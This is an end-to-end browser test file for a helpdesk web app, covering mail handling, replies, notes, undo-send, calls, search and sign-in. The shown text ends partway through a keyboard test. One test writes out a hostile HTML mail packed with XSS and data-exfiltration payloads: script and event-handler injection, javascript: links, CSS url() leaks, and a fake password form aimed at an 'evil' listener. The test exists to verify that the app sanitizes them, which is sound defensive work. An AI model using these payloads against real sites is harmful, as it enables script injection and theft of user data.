import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { buffer } from 'node:stream/consumers';
import type { Platform } from '@helpmesh/deploy/local';
import { rawMail, sendRaw, waitFor } from '@helpmesh/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Person, useBrowser } from './browser.ts';
import { type Desk, type Json, linkIn, type Mailbox } from './desk.ts';
import { hostileNames, hostileTexts } from './hostile.ts';
import { Keys } from './keys.ts';
import { minutesLater, type OpenHours } from './open-hours.ts';
import { testPlatform } from './platform.ts';
import { blackSquare } from './png.ts';

const password = 'A-password-for-the-page-1';
const SQUARE_PX = 100;

/** What people do with the page, from the mail that comes in to the mail that goes out. */
describe('in the browser', { timeout: 90_000 }, () => {
  let platform: Platform;
  let mailbox: Mailbox;
  let admin: Desk;
  const browser = useBrowser(() => platform.url);

  beforeAll(async () => {
    // Tickets may be of the past: what is promised for them is over.
    ({ platform, mailbox, admin } = await testPlatform({ ticket: { HELPMESH_IMPORT_MODE: 'true' } }));
    await undoWithin(0);
  }, 120_000);
  afterAll(() => platform?.stop());

  const mailIn = (mail: Parameters<typeof rawMail>[0] & { from: string }) =>
    sendRaw({ port: platform.smtpPort }, rawMail(mail), {
      from: /<(.+)>/.exec(mail.from)?.[1] ?? mail.from,
      to: 'helpdesk@localhost',
    });

  const undoWithin = (undo_send_seconds: number) => admin.put('/api/v1/desk_settings', { undo_send_seconds });

  const account = (firstname: string, role: 'Agent' | 'Customer') =>
    admin.post('/api/v1/users', {
      firstname,
      lastname: 'Page',
      email: emailOf(firstname),
      password,
      roles: [role],
      ...(role === 'Agent' && { groups: { Users: ['full'] } }),
    });
  const emailOf = (firstname: string) => `${firstname.toLowerCase()}@page.example`;

  /** A new agent, signed in. */
  async function agent(firstname: string, options: Parameters<typeof browser.person>[0] = {}): Promise<Person> {
    await account(firstname, 'Agent');
    const person = await browser.person(options);
    await person.comeIn(emailOf(firstname), password);
    return person;
  }

  /** From the first field of the sign-in page. */
  async function signInBy(keys: Keys, firstname: string): Promise<void> {
    await keys.type(emailOf(firstname));
    await keys.press('Tab');
    await keys.type(password);
    await keys.press('Enter');
    await keys.person.page.getByRole('button', { name: /^Account of / }).waitFor();
  }

  const phoneTicket = (title: string, customer: string) =>
    admin.post('/api/v1/tickets', {
      title,
      group: 'Users',
      customer: `guess:${customer}`,
      article: { type: 'phone', sender: 'Customer', body: `About ${title}.` },
    });

  it('J1: the whole story: a mail comes in, is answered, and the answer to that is there at once', async () => {
    await account('Amy', 'Agent');
    const amy = await browser.person();
    await amy.signIn(emailOf('Amy'), password);
    const { page } = amy;
    const loaded = await amy.document();
    const customer = 'carla@customer.example';
    const [deputy, hidden] = ['dora@customer.example', 'hana@elsewhere.example'];
    const headers = { Cc: `Dora Deputy <${deputy}>, helpdesk@localhost` };
    const from = `Carla Client <${customer}>`;
    await mailIn({ from, subject: 'The archive is slow', text: 'Since Monday.\n', headers });

    await amy.row('The archive is slow').click();
    await amy.heading('The archive is slow').waitFor();
    await amy.message('Customer: Carla Client').getByText('Since Monday.').waitFor();

    await page.getByRole('button', { name: 'Reply all', exact: true }).click();
    const text = page.getByRole('textbox', { name: 'Text of the reply' });
    await text.fill('We moved you to a faster disk.');
    await page.getByRole('button', { name: 'Send to 2 people outside' }).waitFor();
    await page.getByRole('button', { name: 'Add Bcc' }).click();
    await page.getByRole('combobox', { name: 'Bcc' }).fill(hidden);
    await page.getByRole('combobox', { name: 'Bcc' }).press('Enter');
    await page.getByRole('button', { name: 'Send to 3 people outside' }).waitFor();
    await text.press('Control+Enter');
    const reply = amy.message('Agent: Amy Page');
    await reply.getByText(hidden).waitFor();
    await reply.getByText('Sent', { exact: true }).waitFor();

    const mail = await mailbox.mail(customer, (one) => one.Snippet.includes('faster disk'), 'the reply');
    expect(mail.text).toContain('We moved you to a faster disk.');
    expect(mail.subject).toMatch(/\[Ticket#\d+\]/);
    expect([mail.cc].flat().map((list) => list?.text)).toEqual([deputy]);
    const sent = (await mailbox.to(customer)).find((one) => one.Snippet.includes('faster disk'));
    expect(sent?.Bcc.map((to: Json) => to.Address)).toEqual([hidden]);

    await mailIn({
      from: `Carla Client <${customer}>`,
      subject: `Re: ${mail.subject}`,
      text: 'Now it is quick, thank you!\n',
      inReplyTo: mail.messageId ?? '',
    });
    await amy.message('Customer: Carla Client').getByText('Now it is quick, thank you!').waitFor();
    expect(await amy.document()).toBe(loaded);
  });

  it('J6: an internal note looks like one, calls a colleague, and is mailed to no customer; without a mouse', async () => {
    const customer = 'nora@customer.example';
    const ticket = await phoneTicket('A quiet matter', customer);
    await mailbox.mail(customer);
    const [bert, cora] = [await agent('Bert'), await agent('Zita')];
    const { page } = bert;
    const keys = await Keys.of(bert);
    await bert.goto(`/tickets/${ticket.id}`);

    await page.getByRole('button', { name: 'Internal note' }).waitFor();
    await keys.press('n');
    await page.getByText('Only agents see this. Nothing is sent.').waitFor();
    await keys.at(/^Text of the internal note$/);
    await keys.type('He is a friend of the director. @Zita');
    await keys.choose(/Zita Page/);
    await keys.press('Control+Enter');
    const note = bert.message('Internal note: Bert Page');
    await note.waitFor();
    expect(await note.getByText('Internal note', { exact: true }).locator('svg').count()).toBe(1);
    const colour = (card: ReturnType<Person['message']>) =>
      card.evaluate((element) => getComputedStyle(element).backgroundColor);
    expect(await colour(note)).not.toBe(await colour(bert.message(/^Customer: /)));
    await cora.page.getByRole('button', { name: /^Notifications, \d+ not seen$/ }).waitFor();

    // A mail that went out after the note shows that the note, had it been mailed, would be there as well.
    await keys.press('r');
    await keys.at(/^Text of the reply$/);
    await keys.type('It is done.');
    await keys.press('Control+Enter');
    await mailbox.mail(customer, (mail) => mail.Snippet.includes('It is done.'), 'the reply');
    const raws = await mailbox.to(customer);
    expect(JSON.stringify(raws)).not.toContain('director');
    expect(raws).toHaveLength(2);
    await page.getByRole('textbox', { name: 'Text of the reply' }).waitFor({ state: 'hidden' });
    await keys.press('e');
    await page.getByText('State: Closed').first().waitFor();
    await note.waitFor();
  });

  it('a message is forwarded with its files to somebody beside the ticket, and what comes back is for agents alone', async () => {
    const [customer, supplier] = ['vera@customer.example', 'sam@supplier.example'];
    const attachments = [{ name: 'smoke.txt', type: 'text/plain', content: 'black\n' }];
    await mailIn({ from: `Vera <${customer}>`, subject: 'The press smokes', text: 'Since noon.\n', attachments });
    await mailbox.mail(customer);
    const gus = await agent('Gus');
    const { page } = gus;
    await gus.row('The press smokes').click();

    await gus.message('Customer: Vera').waitFor();
    await page.getByRole('button', { name: 'Reply', exact: true }).waitFor();
    await page.keyboard.press('f');
    await page.getByText('The customer learns nothing of this, nor of the answers.').waitFor();
    const text = page.getByRole('textbox', { name: 'Text to somebody beside the ticket' });
    await text.getByText('Since noon.').waitFor();
    await page.getByRole('list', { name: 'Files to send' }).getByText('smoke.txt').waitFor();
    await page.getByRole('combobox', { name: 'To' }).fill(supplier);
    await text.press('Control+Home');
    await text.pressSequentially('Which part is this?');
    await page.getByRole('button', { name: `Send to ${supplier}` }).click();
    await gus.message('Side conversation: Gus Page').getByText('Sent', { exact: true }).waitFor();
    const mail = await mailbox.mail(supplier);
    expect(mail.subject).toContain('FWD: The press smokes');
    expect(mail.text).toContain('Which part is this?');
    expect(mail.text).toContain('Since noon.');
    expect(mail.attachments.map(({ filename }) => filename)).toEqual(['smoke.txt']);

    const answer = { subject: `Re: ${mail.subject}`, inReplyTo: mail.messageId ?? '', text: 'The belt, part 4711.\n' };
    await mailIn({ from: `Sam Supplier <${supplier}>`, ...answer });
    const theirs = gus.message('Side conversation: Sam Supplier');
    await theirs.getByText('The belt, part 4711.').waitFor();
    await theirs.getByRole('button', { name: 'Actions of this message' }).click();
    await page.getByRole('menuitem', { name: 'Answer in this side conversation' }).click();
    await text.fill('Send two of them.');
    await page.getByRole('button', { name: `Send to ${supplier}` }).click();
    await mailbox.mail(supplier, (one) => one.Snippet.includes('Send two of them.'), 'the answer to the supplier');
    expect(await mailbox.to(customer)).toHaveLength(1);
  });

  it('J3, J4: of two agents the second is told what was said meanwhile, and what they wrote is there on another machine; without a mouse', async () => {
    const customer = 'two@customer.example';
    const ticket = await phoneTicket('Two answers', customer);
    const [ines, otto] = [await agent('Ines'), await agent('Otto')];
    const write = async (person: Person, words: string) => {
      const keys = await Keys.of(person);
      await person.goto(`/tickets/${ticket.id}`);
      await person.page.getByRole('button', { name: 'Reply', exact: true }).waitFor();
      await keys.press('r');
      await keys.at(/^Text of the reply$/);
      await keys.type(words);
      return keys;
    };
    // Ines is quicker than the page, which does not know yet whom she answers.
    const known = Promise.withResolvers<void>();
    await ines.page.route(/\/api\/v1\/users\/\d+/, async (route) => {
      await known.promise;
      await route.continue();
    });
    const first = await write(ines, 'We will look after it – today.');
    known.resolve();
    const second = await write(otto, 'Please call us, ünïcode and all.');
    await ines.page.getByRole('list', { name: 'Also here' }).getByText('Otto Page is writing a reply').waitFor();
    await first.to(new RegExp(`^Send to ${customer}`));
    await first.press('Enter');
    await otto.message('Agent: Ines Page').waitFor();
    await second.press('Control+Enter');
    await otto.page.getByRole('alert').getByText('Ines Page wrote while you were writing').waitFor();
    const ours = async () => (await mailbox.to(customer)).filter(({ Snippet }) => /today|call us/.test(Snippet));
    await waitFor(async () => (await ours()).length === 1, { what: 'the one answer' });
    await second.to(/^Look at it first$/);
    await second.press('Enter');
    await second.at(/^Agent: Ines Page$/);

    // The draft is the server's: closed without a word, it is there in another browser.
    const own = admin.as({ basic: [emailOf('Otto'), password] });
    const kept = async () => JSON.stringify(await own.get(`/api/v1/tickets/${ticket.id}/drafts`)).includes('call us');
    await waitFor(kept, { what: 'the draft on the server', timeoutMs: 10_000 });
    await ines.goto('/tickets?view=all');
    const there = ines.page.getByRole('row', { name: /Two answers/ }).getByText(/^Otto Page is /);
    await there.waitFor();
    await otto.page.close();
    await there.waitFor({ state: 'detached' });
    const elsewhere = await browser.person();
    await elsewhere.goto(`/tickets/${ticket.id}`);
    const keys = await Keys.of(elsewhere);
    await keys.at(/^E-mail address/);
    await signInBy(keys, 'Otto');
    const text = elsewhere.page.getByRole('textbox', { name: 'Text of the reply' });
    await text.waitFor();
    expect(await text.textContent()).toBe('Please call us, ünïcode and all.');
    expect(await ours()).toHaveLength(1);
    // Looked at and sent all the same: two answers, and each of them once.
    await keys.press('r');
    await keys.at(/^Text of the reply$/);
    await keys.press('Control+Enter');
    await waitFor(async () => (await ours()).length === 2, { what: 'the second answer', timeoutMs: 30_000 });
  });

  it('J5: a reply is taken back with its words, and goes out once when it is left alone; without a mouse', async () => {
    const customer = 'una@customer.example';
    const ticket = await phoneTicket('Second thoughts', customer);
    const uma = await agent('Uma');
    const { page } = uma;
    const keys = await Keys.of(uma);
    await undoWithin(60);
    try {
      await uma.goto(`/tickets/${ticket.id}`);
      await page.getByRole('button', { name: 'Reply', exact: true }).waitFor();
      await keys.press('r');
      await keys.at(/^Text of the reply$/);
      await keys.type('You are quite wrong.');
      await keys.press('Control+Enter');
      const waiting = page.getByRole('list', { name: 'Waiting to be sent' });
      await waiting.getByText('You are quite wrong.').waitFor();
      await keys.to(/^Take back/, 'Shift+Tab');
      await keys.press('Enter');
      await waiting.waitFor({ state: 'detached' });
      await keys.at(/^Text of the reply$/);
      const text = page.getByRole('textbox', { name: 'Text of the reply' });
      await text.getByText('You are quite wrong.').waitFor();
      await keys.press('Control+a');
      await keys.type('You are quite right.');
      await keys.press('Control+Enter');
      await waiting.getByText('You are quite right.').waitFor();
      await keys.to(/^Send now/, 'Shift+Tab');
      await keys.press('Enter');
      await uma.shows('You are quite right.');
      await mailbox.mail(customer, (mail) => mail.Snippet.includes('quite right'), 'the reply');
      const mails = JSON.stringify(await mailbox.to(customer));
      expect(mails).not.toContain('quite wrong');
      expect(mails.split('quite right')).toHaveLength(2);
    } finally {
      await undoWithin(0);
    }
  });

  it('J5: a new ticket with a mail is taken back as it was written, and opened when it is left to go', async () => {
    const customer = 'nora@customer.example';
    await phoneTicket('Known before', customer);
    const nils = await agent('Nils');
    const { page } = nils;
    await undoWithin(60);
    try {
      await nils.goto('/tickets/new');
      await page.getByText('Send e-mail', { exact: true }).click();
      await page.getByLabel('Customer', { exact: true }).fill('nora');
      await page.getByRole('option', { name: /nora@customer.example/ }).click();
      await page.getByRole('combobox', { name: 'Group' }).click();
      await page.getByRole('option', { name: 'Users' }).click();
      await page.getByLabel('Title', { exact: true }).fill('Your new badge');
      await page.getByRole('textbox', { name: 'Text', exact: true }).fill('You get none.');
      await page.getByRole('button', { name: `Create and send to ${customer}` }).click();
      const waiting = page.getByRole('list', { name: 'Waiting to be sent' });
      await waiting.getByText('You get none.').waitFor();
      await waiting.getByRole('button', { name: 'Take back' }).click();
      const text = page.getByRole('textbox', { name: 'Text', exact: true });
      await text.getByText('You get none.').waitFor();
      expect(await page.getByLabel('Title', { exact: true }).inputValue()).toBe('Your new badge');
      await text.fill('It is ready.');
      await page.getByRole('button', { name: `Create and send to ${customer}` }).click();
      await waiting.getByRole('button', { name: 'Send now' }).click();
      await nils.heading('Your new badge').waitFor();
      await nils.shows('It is ready.');
      await mailbox.mail(customer, (mail) => mail.Snippet.includes('It is ready.'), 'the mail of the new ticket');
      expect(JSON.stringify(await mailbox.to(customer))).not.toContain('You get none.');
    } finally {
      await undoWithin(0);
    }
  });

  it('a call becomes a ticket of a customer who was unknown; an empty form says what is missing', async () => {
    const cleo = await agent('Cleo');
    const { page } = cleo;
    await page.getByRole('link', { name: 'New ticket' }).click();
    await cleo.heading('New ticket').waitFor();
    const create = page.getByRole('button', { name: 'Create the ticket' });
    await create.click();
    for (const complaint of ['Choose a customer.', 'Write a title.', 'Choose a group.', 'Write a text.']) {
      await page.getByText(complaint, { exact: true }).waitFor();
    }
    await waitFor(
      () => page.getByLabel('Customer', { exact: true }).evaluate((field) => field === document.activeElement),
      {
        what: 'the keyboard at the first field in need',
      },
    );

    expect(await page.getByRole('radio', { name: 'Received call' }).isChecked()).toBe(true);
    await page.getByLabel('Customer', { exact: true }).fill('vera.caller@customer.example');
    await page.getByRole('option', { name: /^Create a new customer/ }).click();
    const dialog = page.getByRole('dialog', { name: 'New customer' });
    await dialog.getByLabel('First name').fill('Vera');
    await dialog.getByLabel('Last name').fill('Caller');
    await dialog.getByRole('button', { name: 'Create the customer' }).click();
    await dialog.waitFor({ state: 'hidden' });
    await page.getByRole('combobox', { name: 'Group' }).click();
    await page.getByRole('option', { name: 'Users' }).click();
    await page.getByLabel('Title', { exact: true }).fill('The door does not open');
    await page.getByRole('textbox', { name: 'Text', exact: true }).fill('She stands in front of it.');
    await create.click();

    await cleo.heading('The door does not open').waitFor();
    await cleo.message('Customer: Vera Caller').waitFor();
    await cleo.shows('She stands in front of it.');
    const { pathname } = new URL(page.url());
    await page.getByRole('complementary').getByRole('link', { name: 'Vera Caller', exact: true }).click();
    await cleo.heading('Vera Caller').waitFor();
    await page.getByRole('main').locator(`a[href="${pathname}"]`).waitFor();
    // Whoever begins another one for her is told of it.
    await page.getByRole('main').getByRole('link', { name: 'New ticket' }).click();
    await page.getByText('Open already, perhaps about the same:').waitFor();
    await page.getByRole('main').locator(`a[href="${pathname}"]`).waitFor();
    const confirmation = await mailbox.mail('vera.caller@customer.example');
    expect(confirmation.subject).toContain('[Ticket#');
  });

  it('the telephone rings: an agent sees who it is, begins a ticket of theirs, and calls back whom nobody answered', async () => {
    const email = 'rita.ring@customer.example';
    const rita = { firstname: 'Rita', lastname: 'Ring', email, phone: '+49 30 555 0101', roles: ['Customer'] };
    await admin.post('/api/v1/users', rita);
    await admin.put('/api/v1/integration_settings', { cti_integration: true });
    const { token } = await admin.post('/api/v1/integration_settings/token', { for: 'cti' });
    const say = async (event: Json) => {
      const headers = { 'content-type': 'application/json' };
      const body = JSON.stringify({ callId: 'r1', direction: 'in', from: '49305550101', to: '4972160', ...event });
      expect((await fetch(`${platform.url}/api/v1/cti/${token}`, { method: 'POST', headers, body })).status).toBe(200);
    };
    const cora = await agent('Cora');
    const { page } = cora;
    const all = page.getByRole('link', { name: /^Calls/ });
    await all.waitFor();

    await say({ event: 'newCall' });
    const ring = page.getByRole('alert').filter({ hasText: 'Rita Ring' });
    await ring.getByRole('button', { name: 'New ticket' }).click();
    await cora.heading('New ticket').waitFor();
    await waitFor(async () => (await page.getByLabel('Customer', { exact: true }).inputValue()).includes('Rita Ring'), {
      what: 'who calls in the form',
    });
    await ring.waitFor({ state: 'hidden' });

    await say({ event: 'hangup', cause: 'noAnswer' });
    await page.getByRole('link', { name: /^Calls\s*1$/ }).click();
    await cora.heading('Calls').waitFor();
    const one = page.getByRole('listitem').filter({ hasText: 'Rita Ring' });
    await one.getByText('Missed', { exact: true }).waitFor();
    expect(await one.getByRole('link', { name: '+49305550101' }).getAttribute('href')).toBe('tel:+49305550101');
    await one.getByRole('checkbox', { name: 'Called back: Rita Ring' }).click();
    await page.getByRole('link', { name: /^Calls$/ }).waitFor();
    expect(await one.getByRole('checkbox').isChecked()).toBe(true);
  });

  it('a form stands on a page of somebody else, says what is wrong, and sends a request', async () => {
    await admin.put('/api/v1/integration_settings', { form_ticket_create: true });
    const script = `<script src="${platform.url}/assets/form/form.js" data-into="helpdesk" defer></script>`;
    const { server, url: elsewhere } = await listener({
      '/': `<!doctype html><html lang="de"><link rel="icon" href="data:,"><title>Elsewhere</title><div id="helpdesk"></div>${script}</html>`,
    });
    const visitor = await browser.person();
    visitor.allow(new RegExp(`^request to ${elsewhere}/$`));
    try {
      await visitor.page.goto(elsewhere);
      const { page } = visitor;
      await page.getByLabel('Name').fill('Vita Visitor');
      await page.getByLabel('E-Mail').fill('vita@');
      await page.getByLabel('Betreff').fill('From another page');
      await page.getByLabel('Nachricht').fill('The gate is stuck.');
      const send = page.getByRole('button', { name: 'Absenden' });
      await send.click();
      await page.getByText('Das ist keine gültige E-Mail-Adresse.').waitFor();
      await page.getByLabel('E-Mail').fill('vita@customer.example');
      await send.click();
      const thanks = await page.getByText(/^Vielen Dank für Ihre Anfrage/).textContent();
      const [, number] = /#(\d+)/.exec(thanks ?? '') ?? [];
      const [ticket] = await admin.get(`/api/v1/tickets/search?query=number:${number}`);
      expect(ticket).toMatchObject({ title: 'From another page' });
    } finally {
      server.closeAllConnections();
      server.close();
    }
  });

  it('a searched list shows where the words are', async () => {
    const { id } = await phoneTicket('Kaleidoscope', 'mira@customer.example');
    await admin.post('/api/v1/ticket_articles', { ticket_id: id, body: 'The mirrors inside are loose.', type: 'note' });
    const mira = await agent('Mira');
    const found = () => admin.get('/api/v1/tickets/search?query=mirrors');
    await waitFor(async () => (await found()).length === 1, { what: 'the index to have it' });
    await mira.goto('/tickets?view=all&q=mirrors');
    const row = mira.page.getByRole('row').filter({ hasText: 'Kaleidoscope' });
    await row.locator('mark', { hasText: 'mirrors' }).waitFor();
    await mira.goto('/tickets?view=all&q=kaleido*');
    await row.getByRole('link', { name: 'Kaleidoscope' }).locator('mark').waitFor();
  });

  it('a list is narrowed by filters without typing, and a closed ticket leads back to it where one wants that', async () => {
    await phoneTicket('Periscope', 'mona@customer.example');
    const mona = await agent('Mona');
    const { page } = mona;
    const words = () => new URL(page.url()).searchParams.get('q');
    await mona.goto('/tickets?view=all&q=periscope');
    await mona.row('Periscope').waitFor();
    const preview = page.getByRole('grid').getByText(/: About Periscope\.$/);
    await preview.waitFor();
    const display = page.getByRole('button', { name: 'Display and download' });
    await display.press('Enter');
    await page.getByRole('menuitemcheckbox', { name: 'How the last message begins', checked: true }).press('Enter');
    await preview.waitFor({ state: 'detached' });
    await page.reload();
    await mona.row('Periscope').waitFor();
    expect(await preview.count()).toBe(0);
    await display.press('Enter');
    const downloading = page.waitForEvent('download');
    await page.getByRole('menuitem', { name: 'Download this list (Excel)' }).press('Enter');
    expect((await downloading).suggestedFilename()).toBe('tickets.xlsx');
    await page.getByRole('button', { name: 'Add a filter' }).click();
    await page.getByRole('menuitem', { name: 'Nobody' }).click();
    const filters = page.getByRole('list', { name: 'Filters' });
    await filters.getByRole('button', { name: 'Owner: Nobody', exact: true }).click();
    await page.getByRole('menuitem', { name: 'All but these' }).click();
    await page.getByText('Nothing matches').waitFor();
    expect(words()).toBe('periscope -owner:none');
    await filters.getByRole('button', { name: 'Remove the filter Owner: not Nobody' }).click();
    await mona.row('Periscope').waitFor();
    await filters.waitFor({ state: 'detached' });
    expect(words()).toBe('periscope');

    await mona.goto('/profile');
    await page.getByRole('combobox', { name: 'After closing a ticket' }).click();
    await page.getByRole('option', { name: 'Back to the list' }).click();
    await page.getByText('Your choice is saved.').waitFor();
    await mona.goto('/tickets?view=open&q=periscope');
    await mona.row('Periscope').click();
    // The key is that of the fields beside the thread.
    await page.getByRole('combobox', { name: 'State' }).waitFor();
    await page.keyboard.press('e');
    await mona.heading('All open').waitFor();
    await page.getByText('State: Closed').waitFor();
    await page.getByText('Nothing matches').waitFor();
  });

  it('a wrong password is told, a forgotten one is set anew by a link that works once', async () => {
    await account('Dana', 'Agent');
    const dana = await browser.person();
    const { page } = dana;
    dana.allow(
      /status of (401|422) .*\/api\/v1\/(signin|users\/password_reset_verify)/,
      /status of 4\d\d .*password_reset/,
    );
    await dana.goto('/');
    await dana.fillIn(emailOf('Dana'), 'not-the-password');
    await page.getByRole('alert').getByText('E-mail address and password do not match.').waitFor();

    await page.getByRole('link', { name: 'Forgot your password?' }).click();
    await page.getByRole('textbox', { name: 'E-mail address' }).fill(emailOf('Dana'));
    await page.getByRole('button', { name: 'Send the link' }).click();
    await dana.heading('Check your mail').waitFor();

    const link = linkIn(await mailbox.mail(emailOf('Dana'), ({ Subject }) => /password/i.test(Subject)), '/reset').href;
    await setPassword(dana, link, 'Another-password-2');
    await page.getByRole('link', { name: 'Go to sign in' }).click();
    await dana.fillIn(emailOf('Dana'), 'Another-password-2');
    await page.getByRole('button', { name: 'Account of Dana Page' }).waitFor();

    await page.goto(link);
    await dana.heading('This link does not work any more').waitFor();
  });

  it('an agent is told of a new ticket while it comes in, by keyboard and by mail, and looks at it', async () => {
    const bea = await agent('Bea');
    const { page } = bea;
    const bell = page.getByRole('button', { name: /^Notifications/ });
    await bell.waitFor();
    await mailIn({ from: 'Nora News <nora@customer.example>', subject: 'Something new', text: 'Look at this.\n' });
    await page.getByRole('button', { name: /^Notifications, \d+ not seen$/ }).waitFor();
    await page.keyboard.press('g');
    await page.keyboard.press('n');
    const list = page.getByRole('list', { name: 'Notifications' });
    const entry = list.getByRole('listitem').filter({ hasText: 'Something new' });
    await entry.getByText('Nobody owns it').waitFor();
    await entry.getByRole('link').press('Enter');
    await bea.heading('Something new').waitFor();
    await bell.click();
    await entry.getByText('Nobody owns it').waitFor();
    await waitFor(async () => (await entry.getByRole('button', { name: /^Mark as read/ }).count()) === 0, {
      what: 'the notification to be read',
    });
    await page.getByRole('button', { name: 'Clear all' }).click();
    await page.getByText('You have not been told of anything.').waitFor();
    expect(await bell.getAttribute('aria-label')).toBe('Notifications');
    const mail = await mailbox.mail(emailOf('Bea'), ({ Subject }) => Subject.includes('New ticket: Something new'));
    expect(mail.headers.get('auto-submitted')).toBe('auto-generated');
  });

  it('an invited colleague chooses a password and signs in; the link works once', async () => {
    const email = emailOf('Emil');
    await admin.post('/api/v1/users', {
      firstname: 'Emil',
      lastname: 'Page',
      email,
      roles: ['Agent'],
      groups: { Users: ['full'] },
      invite: true,
    });
    const emil = await browser.person();
    const { page } = emil;
    emil.allow(/status of 4\d\d .*password_reset_verify/);
    const link = linkIn(await mailbox.mail(email, ({ Subject }) => /invitation/i.test(Subject)), '/invite').href;
    await setPassword(emil, link, password);
    await page.getByRole('link', { name: 'Go to sign in' }).click();
    await emil.fillIn(email, password);
    await page.getByRole('button', { name: 'Account of Emil Page' }).waitFor();
    await page.goto(link);
    await emil.heading('This link does not work any more').waitFor();
  });

  it('a customer sees the tickets that are theirs, and answers', async () => {
    await account('Fay', 'Customer');
    const [own, foreign] = [
      await phoneTicket('The ticket of Fay', emailOf('Fay')),
      await phoneTicket('The ticket of somebody else', 'else@customer.example'),
    ];
    const fay = await browser.person();
    const { page } = fay;
    fay.allow(new RegExp(`status of 404 .*/${foreign.id}\\b`));
    await fay.comeIn(emailOf('Fay'), password, { at: '/tickets' });
    await fay.row('The ticket of Fay').waitFor();
    await page.getByRole('status').getByText('1 ticket', { exact: true }).waitFor();
    expect(await page.getByRole('link', { name: 'New ticket' }).count()).toBe(0);

    await fay.row('The ticket of Fay').click();
    await page.getByRole('button', { name: 'Reply', exact: true }).click();
    expect(await page.getByRole('button', { name: 'Internal note' }).count()).toBe(0);
    await page.getByRole('textbox', { name: 'Text of the reply' }).fill('One more thing.');
    await page.getByRole('button', { name: 'Send reply' }).click();
    await fay.message('Customer: Fay Page').last().waitFor();
    await fay.shows('One more thing.');
    const articles = await admin.articlesOf(own.id);
    expect(articles.find((article: Json) => article.body.includes('One more thing.'))).toMatchObject({
      sender: 'Customer',
      internal: false,
    });

    await fay.goto(`/tickets/${foreign.id}`);
    await page.getByText('There is no such ticket').waitFor();
  });

  it('J11, S02: a hostile mail is read without anything of it running, loading or covering the page', async () => {
    const elsewhere = await listener();
    const evil = elsewhere.url;
    const run = `top.hurt=1;alert(1);fetch('${evil}/script')`;
    const html = `<html><head><base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
      <link rel="stylesheet" href="${evil}/style.css"><style>@import url(${evil}/import.css);
      body{background:url(${evil}/body.png)} @font-face{font-family:x;src:url(${evil}/font.woff2)}
      p{font-family:x} input[value^=a],a[href^=j]{background:url(${evil}/leak)} html{position:fixed;inset:-999px}
      :root{--x:url(${evil}/variable)} p{cursor:url(${evil}/cursor),auto;list-style:url(${evil}/list)}</style><script>${run}</script></head><body onload="${run}">
      <p>Please read this to the end.</p><img src="x" onerror="${run}"><img src="${evil}/pixel.png">
      <picture><source srcset="${evil}/set.png"><img srcset="${evil}/set2.png 2x"></picture>
      <div style="position:fixed;inset:0;z-index:99999;background:url(${evil}/cover.png) red">covered</div>
      <iframe srcdoc="<script>${run}</script>"></iframe><object data="${evil}/object"></object>
      <embed src="${evil}/embed"><video src="${evil}/video" autoplay></video>
      <svg onload="${run}"><animate attributeName="href" onbegin="${run}" values="javascript:${run}" dur="1s"/>
      <image href="${evil}/svg.png"/></svg><math><mtext><img src=x onerror="${run}"></mtext></math>
      <form action="${evil}/form"><input name="password" autofocus onfocus="${run}"><button>Sign in</button></form>
      <a href="javascript:${run}">a link</a> <a href="java&#10;script:${run}">another link</a>
      <details open ontoggle="${run}">details</details><p>This is the end.</p></body></html>`;
    await mailIn({ from: 'Mallory <mallory@customer.example>', subject: 'A harmless question', html });
    const gus = await agent('Gil');
    const { page } = gus;
    try {
      await gus.row('A harmless question').click();
      const message = gus.message('Customer: Mallory');
      const frame = message.frameLocator('iframe');
      await frame.getByText('This is the end.').waitFor();
      for (const name of ['a link', 'another link']) {
        const link = frame.getByText(name, { exact: true });
        expect((await link.getAttribute('href')) ?? '', name).not.toMatch(/script/i);
        await link.click();
      }
      const dangerous = 'script,iframe,object,embed,form,input,svg,math,base,link,meta[http-equiv=refresh],video';
      expect(await frame.locator('body').locator(dangerous).count()).toBe(0);
      expect(await frame.locator('body').evaluate((body) => /\son\w+=/i.test(body.innerHTML))).toBe(false);

      // The frame stays within the thread, and nothing lies over the page: its buttons are reached by a mouse.
      const [inner, outer] = [await message.locator('iframe').boundingBox(), await message.boundingBox()];
      expect(inner?.x).toBeGreaterThanOrEqual(outer?.x ?? Number.NaN);
      expect(inner?.width).toBeLessThanOrEqual(outer?.width ?? Number.NaN);
      await page.getByRole('button', { name: 'Reply', exact: true }).click();
      await page.getByRole('textbox', { name: 'Text of the reply' }).fill('No.');
      expect(await page.evaluate(() => 'hurt' in window)).toBe(false);
      expect(elsewhere.asked).toEqual([]);
      expect(page.context().pages()).toHaveLength(1);
    } finally {
      elsewhere.server.close();
    }
  });

  it('J1 by keyboard: everything goes without a mouse: sign in, open, reply, close', async () => {
    await account('Hal', 'Agent');
    await phoneTicket('Older than the other', 'keys@customer.example');
    const ticket = await phoneTicket('Only by keyboard', 'keys@customer.example');
    const hal = await browser.person();
    const { page } = hal;
    await hal.goto('/');
    await hal.heading('Sign in').waitFor();
    await page.evaluate(() => {
      const counted = window as unknown as { mouse: number };
      counted.mouse = 0;
      for (const type of ['mousedown', 'touchstart']) window.addEventListener(type, () => counted.mouse++, true);
    });
    const { keyboard } = page;
    const focusAt = (what: RegExp) =>
      waitFor(async () => what.test(await hal.focused()), { what: `the keyboard at ${what}` });

    await keyboard.type(emailOf('Hal'));
    await keyboard.press('Tab');
    await keyboard.type(password);
    await keyboard.press('Enter');
    await hal.heading('Home').waitFor();
    await page.getByRole('link', { name: 'Only by keyboard' }).waitFor();
    await keyboard.press('j');
    await focusAt(/My overdue/);
    await keyboard.press('g');
    await keyboard.press('o');
    await hal.row('Only by keyboard').waitFor();
    for (let presses = 0; !(await hal.focused()).includes('Only by keyboard'); presses++) {
      expect(presses, 'presses of J').toBeLessThan(60);
      await keyboard.press('j');
      await focusAt(/#\d+/);
    }
    await keyboard.press('Enter');
    await hal.heading('Only by keyboard').waitFor();
    await page.getByRole('button', { name: 'Reply', exact: true }).waitFor();

    await keyboard.press('r');
    await focusAt(/^Text of the reply$/);
    await keyboard.type('Written by hand.');
    await keyboard.press('Control+Enter');
    await hal.message('Agent: Hal Page').waitFor();
    await hal.shows('Written by hand.');
    await page.getByRole('textbox', { name: 'Text of the reply' }).waitFor({ state: 'hidden' });

    await keyboard.press('s');
    await page.getByRole('option').first().waitFor();
    // Of the menu, not of the field: where the arrow keys are.
    const marked = () => page.evaluate(() => document.querySelector('[data-combobox-selected]')?.textContent);
